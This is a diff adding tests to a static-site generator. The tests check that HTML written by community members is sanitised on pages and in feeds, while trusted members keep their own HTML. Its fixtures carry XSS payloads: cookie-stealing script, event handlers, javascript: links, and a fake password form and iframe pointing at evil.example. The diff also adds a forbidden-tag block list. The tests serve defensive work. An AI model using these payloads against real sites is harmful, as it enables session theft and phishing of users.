@@ -84,6 +84,138 @@ def test_a_link_in_front_matter_takes_only_a_web_address(tmp_path: Path, key: st
     assert not (root / "_site").exists()
 
 
+# --- a community's members ---------------------------------------------------------------------------
+
+# What a member can write in Markdown's raw HTML to run code, load something, or cover the page.
+HOSTILE = """\
+Joins, as I learned them: [my other note](2024-05-02-other.md), a [[Other note]], ![a plan](plan.png).
+
+| left | right |
+|:-----|------:|
+| 1    | 2     |
+
+Footnoted[^1].
+
+[^1]: The note.
+
+<script>window.stolen = document.cookie</script>
+<img src="x.png" onerror="alert('img')"><a href="javascript:alert('a')">a</a> <a href="  JaVaScRiPt&#58;alert('b')">b</a>
+<a href="data:text/html,&lt;script&gt;alert('c')&lt;/script&gt;">c</a> <a href="vbscript:msgbox('d')">d</a>
+<iframe src="https://evil.example/"></iframe><form action="https://evil.example/"><input name="password"><button>Log in</button></form>
+<div style="position:fixed;top:0;left:0;width:100%;height:100%">Your session ended</div>
+<svg onload="alert('svg')"></svg><object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x">
+<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">
+<link rel="stylesheet" href="https://evil.example/x.css"><style>body { display: none }</style>
+<p onmouseover="alert('p')" style="background:url(javascript:alert('e'))">hover</p>
+<details open ontoggle="alert('details')"><summary>more</summary>hidden</details>
+"""
+FORBIDDEN = {"script", "iframe", "frame", "frameset", "form", "button", "textarea", "select", "object", "embed",
+             "applet", "svg", "math", "meta", "base", "link", "style", "template", "noscript"}
+URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "poster", "cite", "background", "srcset", "xlink:href"}
+SAFE_SCHEMES = {"http", "https", "mailto"}
+PNG = (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x00\x00\x00\x00:~\x9bU\x00\x00\x00\n"
+       b"IDATx\x9cc`\x00\x00\x00\x02\x00\x01H\xaf\xa4q\x00\x00\x00\x00IEND\xaeB`\x82")  # one grey pixel
+
+GUILD = """\
+title: The guild
+base_url: https://guild.example/
+members:
+  - id: ada
+    name: Ada Park
+    journal: members/ada
+  - id: sam
+    name: Sam Okafor
+"""
+
+
+def guild(tmp_path: Path, settings: str = GUILD) -> Path:
+    """A community where Ada writes in a folder of her own, Sam in its entries folder (``author: sam``),
+    and the community's own entry has no author."""
+    return write(tmp_path / "guild", {
+        "publog.yaml": settings,
+        "members/ada/2024-05-01-hostile.md": entry("Joins <script>alert('title')</script>", "2024-05-01", tags="[sql]",
+                                                   summary="'<img src=x onerror=alert(1)>'", body=HOSTILE),
+        "members/ada/2024-05-02-other.md": entry("Other note", "2024-05-02", body="<script>window.other = 1</script>Fine."),
+        "members/ada/plan.png": PNG,
+        "entries/2024-05-03-sam.md": entry("Sam's notes", "2024-05-03", author="sam", tags="[sql]",
+                                           body="<script>window.sam = 1</script><a href='javascript:alert(2)'>x</a> Hi."),
+        "entries/2024-05-04-ours.md": entry("Ours", "2024-05-04", body="<script>window.ours = 1</script>\n\n![[Other note]]\n"),
+    })
+
+
+def test_what_a_member_writes_runs_nothing_on_pages_or_in_feeds(tmp_path: Path) -> None:
+    root = guild(tmp_path)
+    run = build("build", root)
+    assert_clear(run)
+    assert run.code == 0, run.err
+    site = root / "_site"
+    page = (site / "members/ada/2024/hostile/index.html").read_text()
+    body = _content(page)
+    assert _dangers(body) == []
+    # What Markdown makes of her text stays: links to her entries, images, tables, footnotes.
+    shown = _elements(body)
+    assert ("a", {"href": "/members/ada/2024/other/"}) in [(t, {"href": a.get("href")}) for t, a in shown if t == "a"]
+    assert any(t == "img" and a.get("src", "").endswith("plan.png") for t, a in shown)
+    assert any(t == "td" and a.get("style") == "text-align:right" for t, a in shown)
+    assert any(t == "a" and a.get("href") == "#fn1" for t, a in shown)
+    assert "Your session ended" in body and "Joins, as I learned them" in body
+    # Her title and summary are text wherever they are shown.
+    assert _page_dangers(page) == [] and "Joins &lt;script&gt;" in page
+    assert _page_dangers((site / "members/ada/index.html").read_text()) == []
+    assert _page_dangers((site / "index.html").read_text()) == []
+    # Sam writes in the community's folder: a member too.
+    assert _dangers(_content((site / "2024/sam/index.html").read_text())) == []
+    # The community's own entry embeds Ada's note: her part of it is cleaned, its own HTML is its own.
+    ours = _content((site / "2024/ours/index.html").read_text())
+    assert "window.ours" in ours and "window.other" not in ours and "Fine." in ours
+    # Every feed that carries a member's entry carries it cleaned, as readers parse it.
+    items = _feed_items(site)
+    theirs = [(f, html) for f, title, html in items if title.startswith(("Joins", "Sam's", "Other"))]
+    assert {f for f, _ in theirs} >= {"feed.xml", "atom.xml", "feed.json", "members/ada/feed.xml", "members/ada/atom.xml",
+                                      "topics/sql/feed.xml"}
+    for feed, html in theirs:
+        assert _dangers(html) == [], feed
+        assert "Joins, as I learned them" in html or "Hi." in html or "Fine." in html, feed
+    assert all(title.startswith("Joins <script>") for f, title, _ in items if title.startswith("Joins")), "the title is text"
+
+
+def test_a_trusted_member_and_the_community_keep_their_own_html(tmp_path: Path) -> None:
+    root = guild(tmp_path, GUILD.replace("    journal: members/ada\n", "    journal: members/ada\n    trusted: true\n"))
+    run = build("build", root)
+    assert_clear(run)
+    assert run.code == 0, run.err
+    site = root / "_site"
+    assert "<script>window.stolen" in (site / "members/ada/2024/hostile/index.html").read_text()
+    assert "<script>window.ours" in (site / "2024/ours/index.html").read_text()
+    assert "window.sam" not in (site / "2024/sam/index.html").read_text()  # Sam is not trusted
+    assert any("window.stolen" in html for f, _, html in _feed_items(site) if f == "members/ada/feed.xml")
+
+
+@pytest.mark.parametrize("value", ["yes please", "'true'", "1", "[true]"])
+def test_trusted_is_true_or_false(tmp_path: Path, value: str) -> None:
+    root = guild(tmp_path, GUILD.replace("    journal: members/ada\n", f"    journal: members/ada\n    trusted: {value}\n"))
+    assert_fails_with(guarded_build(tmp_path, root), "publog.yaml:3: member 1 (ada) 'trusted'")
+
+
+def test_a_members_name_and_bio_are_text_and_their_links_web_addresses(tmp_path: Path) -> None:
+    link = "    links: [\"https://ada.example/\\\" onclick=\\\"alert(1)\"]\n"
+    settings = GUILD.replace("    name: Ada Park\n", "    name: \"Ada <script>alert('name')</script>\"\n"
+                             "    bio: \"<img src=x onerror=alert('bio')>\"\n")
+    root = guild(tmp_path, settings.replace("    journal: members/ada\n", "    journal: members/ada\n" + link))
+    assert_fails_with(guarded_build(tmp_path, root), "publog.yaml:3: member 1 (ada) 'links'")
+    (root / "publog.yaml").write_text(settings, encoding="utf-8")
+    run = build("build", root)
+    assert_clear(run)
+    assert run.code == 0, run.err
+    site = root / "_site"
+    for page in ("members/index.html", "members/ada/index.html", "members/ada/2024/hostile/index.html", "index.html"):
+        assert _page_dangers((site / page).read_text()) == [], page
+    for feed, title, html in _feed_items(site):
+        assert title == "Ours" or _dangers(html) == [], feed  # the community's own entry keeps its script
+    authors = [a.get("name", "") for f in ("feed.xml", "atom.xml") for e in _parsed(site / f).entries for a in e.get("authors", [])]
+    assert "Ada <script>alert('name')</script>" in authors  # as text, which a reader escapes
+
+
 # --- reading pages and feeds as a browser and a feed reader do -----------------------------------------
 
 class _Elements(HTMLParser):
